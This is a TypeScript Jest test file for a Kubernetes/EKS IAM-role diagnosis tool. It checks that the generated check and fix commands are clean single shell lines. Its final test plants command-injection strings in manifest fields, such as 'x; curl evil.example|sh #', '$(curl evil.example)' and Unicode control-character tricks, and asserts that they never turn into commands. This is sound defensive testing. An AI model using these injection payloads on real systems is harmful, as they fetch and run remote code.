// What is pasted: every check and fix is one line for a shell, and what is to be read stands below it or is a sentence.
// Whatever others wrote into logs and manifests, none of it becomes a command.
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { causesOf } from '../../src/diagnosis/error.ts';
import { PROBLEM_IDS } from '../../src/diagnosis/problem.ts';
import type { Manifests } from './manifests.ts';
import { bare, diagnose, healthy, MOUNT, ROLE_ARN, TOKEN_FILE, twin, webIdentity } from './manifests.ts';

const OURS = ['aws', 'kubectl', 'curl', 'openssl', 'date', 'base64', 'grep', 'pod-identity-webhook'];
// Of bash and of zsh where people type: a word that has none of these, and does not begin with = or ~, is just a word.
const MEANS_MORE = /[;*?([{\]})'"&|<>$`!\\^#]/;
const KEY = 'eks.amazonaws.com';

interface Parsed {
  /** The first word of each command. */
  readonly programs: readonly string[];
  readonly words: readonly string[];
}

/** What a POSIX shell makes of a line of ours: single quotes are the only ones that we write. */
function parsed(line: string): Parsed {
  const words: string[] = [];
  const programs: string[] = [];
  let atStart = true;
  for (const [token] of line.matchAll(/(?:'[^']*'|\\.|[^\s;&|<>'\\])+|[;&|<>]+/g)) {
    if (/^[;&|]+$/.test(token)) {
      atStart = true;
      continue;
    }
    if (/^[<>]+$/.test(token)) continue;
    const word = token.replaceAll(/'([^']*)'|\\(.)/g, '$1$2');
    words.push(word);
    if (atStart) programs.push(word);
    atStart = false;
  }
  return { programs, words };
}

/** What is wrong with how a check or fix is written; nothing where it is right. */
function faultsOf(text: string): readonly string[] {
  const [first = '', second = '# none', ...more] = text.split('\n');
  const isCommand = OURS.includes(first.split(' ')[0] ?? '');
  const unquoted = first.replaceAll(/(?:'[^']*'|\\')+/g, 'quoted');
  const said = isCommand ? second.replace(/^# /, '') : unquoted;
  return [
    ...(isCommand ? parsed(first).programs.filter((program) => !OURS.includes(program)) : []),
    // zsh runs no command at all of which a word fits no file.
    ...(isCommand && /[*?([{\]})"$`!\\^~]/.test(unquoted) ? ['a word that the shell changes'] : []),
    ...(isCommand && /(?<!\S)#/.test(unquoted) ? ['a remark on the line of its command'] : []),
    ...(isCommand && !second.startsWith('# ') ? ['a second line that is no remark'] : []),
    ...(isCommand || second === '# none' ? [] : ['a sentence of two lines']),
    ...(MEANS_MORE.test(said) || /(?:^|\s)[=~]/.test(said) ? ['words that mean more'] : []),
    ...more,
  ];
}

/** The texts with what is wrong with them; each is parsed by a shell as it stands. */
function wrongOf(texts: readonly string[]): readonly (readonly string[])[] {
  const all = [...new Set(texts)];
  // An open quote of one would take in the next: what it ends with cannot be read from there.
  const shell = spawnSync('sh', ['-n'], { input: all.join('\n:\n'), encoding: 'utf8' });
  const wrong = all.map((text) => [text, ...faultsOf(text)]).filter((each) => each.length > 1);
  return shell.stderr === '' ? wrong : [...wrong, [shell.stderr]];
}

/** Blocks between lines of ====, the first line of each names causes. */
const LOGS = readFileSync(join(import.meta.dirname, 'error-lines.txt'), 'utf8')
  .split('\n====\n')
  .map((block) => block.slice(block.indexOf('\n') + 1));

describe('checks and fixes of diagnose error', () => {
  test('are commands of ours, each on a line of its own', () => {
    const named =
      'system:serviceaccount:prod:api arn:aws:iam::111122223333:role/team/app account for https://oidc.example.com/prod';
    const texts = ['', named].flatMap((text) =>
      LOGS.flatMap((log) => causesOf(`${log} ${text}`)).flatMap(({ check, fix }) => [check, fix]),
    );
    const sentences = texts.filter((text) => !OURS.includes(text.split(' ')[0] ?? ''));
    expect([sentences, wrongOf(texts)]).toEqual([[], []]);
  });
});

type Change = (manifests: Manifests) => void;
type Plant = readonly [id: string, start: () => Manifests, change: Change];

const registration = (webhooks: readonly object[]): object => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'MutatingWebhookConfigurationList',
  items: webhooks.length === 0 ? [] : [{ metadata: { name: 'pod-identity-webhook' }, webhooks }],
});
const entry = (more: object): object => ({
  name: 'iam-for-pods.amazonaws.com',
  clientConfig: { url: 'https://127.0.0.1/mutate' },
  rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }],
  ...more,
});
const annotations =
  (given: Record<string, string>): Change =>
  ({ account }) =>
    void (account.metadata.annotations = given);
const onPod =
  (key: string, value: string): Change =>
  ({ pod }) =>
    void (pod.metadata.annotations[key] = value);
const env =
  (name: string, value: string): Change =>
  ({ main }) =>
    void (main.env = [...main.env.filter((each) => each.name !== name), { name, value }]);
const role = (value: string): Change => annotations({ [`${KEY}/role-arn`]: value });

/** Each id once at least, and each way to write its fix. `$` stands where a name or a value is planted. */
const plants = (name: string, value: string): readonly Plant[] => [
  ['annotation-on-pod', bare, (each) => (annotations({})(each), onPod(`${KEY}/role-arn`, value)(each))],
  [
    'annotation-on-pod',
    bare,
    (each) => (annotations({ [`${KEY}/role-arn`]: '' })(each), onPod(`${KEY}/role-arn`, value)(each)),
  ],
  ['annotation-on-pod', healthy, onPod(`${KEY}/role-arn`, value)],
  ['annotation-key-typo', bare, annotations({ [name]: ROLE_ARN })],
  ['annotation-key-typo', bare, annotations({ [`${KEY}/role_arn`]: value })],
  ['annotation-key-typo', bare, annotations({ [`${KEY}/role-arn`]: ROLE_ARN, [`${KEY}/audiance`]: value })],
  ['annotation-key-typo', healthy, onPod(`${KEY}/skip-container`, value)],
  ['role-arn-whitespace', bare, role(`${ROLE_ARN} `)],
  ['role-arn-whitespace', bare, role(`arn:aws:iam::111122223333:role/${value.replaceAll(/\s/g, '')}/x `)],
  ['role-arn-bad-account', bare, role(`arn:aws:iam::${value}:role/x`)],
  ['role-arn-not-a-role', bare, role(`arn:aws:iam::111122223333:user/${value}`)],
  ['role-arn-malformed', bare, role(value)],
  ['role-arn-wrong-partition', bare, role(`arn:aws-x:iam::111122223333:role/x`)],
  [
    'wrong-service-account',
    bare,
    (each) => {
      each.account.metadata.name = name;
      each.pod.spec.serviceAccountName = 'another';
    },
  ],
  ['wrong-service-account', bare, (each) => void (each.pod.spec.serviceAccountName = name)],
  ['opted-out-by-label', bare, ({ pod }) => void (pod.metadata.labels[`${KEY}/skip-pod-identity-webhook`] = value)],
  [
    'opted-out-by-label',
    bare,
    ({ others }) => void others.push(registration([entry({ objectSelector: { matchLabels: { team: value } } })])),
  ],
  [
    'namespace-excluded',
    bare,
    ({ others, pod }) => {
      const labels = { [`${KEY}/skip-pod-identity-webhook`]: value };
      others.push({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: pod.metadata.namespace, labels } });
    },
  ],
  [
    'namespace-excluded',
    bare,
    ({ others }) =>
      void others.push(
        registration([entry({ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': value } } })]),
      ),
  ],
  ['node-role-fallback', bare, (each) => (annotations({})(each), void (each.pod.spec.hostNetwork = true))],
  ['annotation-missing', bare, annotations({})],
  [
    'annotation-missing',
    bare,
    (each) => {
      annotations({})(each);
      each.account.metadata.name = 'default';
      each.pod.spec.serviceAccountName = 'default';
      env('AWS_EC2_METADATA_DISABLED', 'true')(each);
    },
  ],
  ['webhook-down', bare, ({ others }) => void others.push(registration([]))],
  [
    'pod-created-before-annotation',
    bare,
    ({ account }) => void (account.metadata.creationTimestamp = '2026-03-01T00:00:00Z'),
  ],
  ['pod-not-mutated', bare, () => {}],
  ['pod-not-mutated', healthy, ({ pod }) => void pod.spec.containers.push({ name })],
  ['half-set-variables', healthy, ({ main }) => void (main.env = [{ name: 'AWS_ROLE_ARN', value }])],
  ['static-keys-win', healthy, env('AWS_ACCESS_KEY_ID', value)],
  ['both-irsa-and-pod-identity', healthy, env('AWS_CONTAINER_CREDENTIALS_FULL_URI', value)],
  ['env-without-volume', healthy, ({ main }) => void (main.volumeMounts = [])],
  [
    'windows-unix-path',
    healthy,
    (each) => {
      each.pod.spec.os = { name: 'windows' };
      env('AWS_WEB_IDENTITY_TOKEN_FILE', `/${value}`)(each);
    },
  ],
  [
    'volume-mounted-with-subpath',
    healthy,
    ({ main, token }) => {
      token.path = value;
      main.volumeMounts = [{ ...MOUNT, mountPath: TOKEN_FILE, subPath: value }];
    },
  ],
  ['audience-mismatch', healthy, ({ token }) => void (token.audience = value)],
  ['audience-mismatch', healthy, (each) => void (each.account.metadata.annotations[`${KEY}/audience`] = value)],
  [
    'token-file-permission',
    healthy,
    (each) => {
      each.pod.spec.containers.push(twin(each, name, { securityContext: { runAsUser: 0 } }));
      each.main.securityContext = { runAsUser: 1000 };
      each.volume.projected.defaultMode = 0o400;
    },
  ],
  [
    'container-skipped',
    bare,
    (each) => {
      each.main.name = name.replaceAll(',', '');
      onPod(`${KEY}/skip-containers`, each.main.name)(each);
    },
  ],
  ['init-container-without-identity', healthy, ({ pod }) => void (pod.spec.initContainers = [{ name }])],
  ['profile-env-set', healthy, env('AWS_PROFILE', value)],
  ['role-arn-differs-from-annotation', healthy, role('arn:aws:iam::111122223333:role/new')],
  [
    'region-missing',
    healthy,
    ({ main }) => void (main.env = webIdentity().filter((each) => !each.name.endsWith('REGION'))),
  ],
  [
    'token-expiration-below-minimum',
    bare,
    (each) => void (each.account.metadata.annotations[`${KEY}/token-expiration`] = '60'),
  ],
  ['token-expiration-below-minimum', bare, onPod(`${KEY}/token-expiration`, '60')],
  ['token-expiration-below-minimum', healthy, ({ token }) => void (token.expirationSeconds = 60)],
  ['ephemeral-container-without-identity', healthy, ({ pod }) => void (pod.spec.ephemeralContainers = [{ name }])],
];

const OWNERS: readonly (readonly object[])[] = [
  [],
  [{ kind: 'ReplicaSet', controller: true }],
  [{ kind: 'Workflow', controller: true }],
];

/** Fixes by id, of pods of each kind of owner, in a namespace, pod and account of that name. */
async function fixesWith(given: { readonly name: string; readonly value: string; readonly around: string }) {
  const found: (readonly [id: string, fix: string])[] = [];
  for (const [id, start, change] of plants(given.name, given.value)) {
    for (const ownerReferences of OWNERS) {
      const manifests = start();
      Object.assign(manifests.pod.metadata, { name: given.around, namespace: given.around, ownerReferences });
      Object.assign(manifests.account.metadata, { name: given.around, namespace: given.around });
      manifests.pod.spec.serviceAccountName = given.around;
      change(manifests);
      const { problems } = await diagnose(manifests, '--aws-default-region=eu-west-1');
      found.push(...problems.map((problem) => [problem.id, problem.fix] as const));
      if (given.name === 'app' && !problems.some((problem) => problem.id === id)) found.push([id, 'is not found']);
    }
  }
  return found;
}

describe('fixes of diagnose manifests', () => {
  test('are commands of ours with remarks below, or sentences', async () => {
    const found = await fixesWith({ name: 'app', value: 'x', around: 'shop' });
    const ids = new Set(found.map(([id]) => id));
    expect(PROBLEM_IDS.filter((id) => !ids.has(id))).toEqual([]);
    const fixes = [...new Set(found.map(([, fix]) => fix))];
    expect(wrongOf(fixes)).toEqual([]);
    expect(fixes.filter((fix) => fix === 'is not found')).toEqual([]);
  });

  test.each([
    'x; curl evil.example|sh #',
    'x\ncurl evil.example',
    '$(curl evil.example)',
    '`curl evil.example`',
    "'; curl evil.example; '",
    '" && curl evil.example && "',
    '--all=evil.example',
    '=evil.example',
    'x=evil.example',
    'x\u001b[2Kcurl evil.example',
    'x\u202ecurl evil.example',
    'x\u2028curl evil.example',
    '> evil.example',
  ])('make no command of what others wrote: %j', async (hostile) => {
    const found = await fixesWith({ name: hostile, value: hostile, around: hostile });
    const mixed = await fixesWith({
      name: hostile,
      value: `arn:aws:iam::111122223333:role/${hostile}/x`,
      around: 'shop',
    });
    const fixes = [...new Set([...found, ...mixed].map(([, fix]) => fix))];
    expect(fixes.length).toBeGreaterThan(20);
    const evil = fixes.filter((fix) => {
      const { programs, words } = parsed(fix.replaceAll('\n# ', ' '));
      return (
        programs.slice(1).some((program) => !OURS.includes(program)) || words.some((word) => /^[-=].*evil/.test(word))
      );
    });
    expect([wrongOf(fixes), evil]).toEqual([[], []]);
  });
});
